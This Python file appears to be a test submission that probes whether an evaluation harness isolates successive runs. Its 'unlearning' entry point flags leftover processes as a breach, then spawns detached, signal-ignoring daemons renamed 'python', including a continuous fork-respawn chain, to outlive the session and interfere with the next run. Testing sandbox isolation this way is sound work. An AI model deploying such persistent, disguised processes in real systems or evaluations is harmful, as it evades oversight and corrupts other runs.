"""Leaves daemons behind that would see, and meddle with, the next run."""

import ctypes
import os
import signal
import time

PR_SET_NAME, PR_SET_PDEATHSIG = 15, 1
LIBC = ctypes.CDLL(None)


def strangers():
    return [name for name in os.listdir("/proc") if name.isdigit() and int(name) not in (1, os.getpid())]


def leave_behind(act):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGCHLD):
                signal.signal(number, signal.SIG_IGN)
            LIBC.prctl(PR_SET_NAME, b"python", 0, 0, 0)
            LIBC.prctl(PR_SET_PDEATHSIG, 0, 0, 0, 0)
            os.closerange(0, 64)
            act()
        os._exit(0)
    os.wait()


def respawn():
    while os.fork() == 0:
        time.sleep(0.002)
    os._exit(0)


def unlearning(net, retain, forget, val):
    if found := strangers():
        raise RuntimeError(f"BREACH: {len(found)} processes of the run before")
    for act in (respawn, lambda: time.sleep(1000), lambda: os.kill(os.getpid(), signal.SIGSTOP)):
        leave_behind(act)
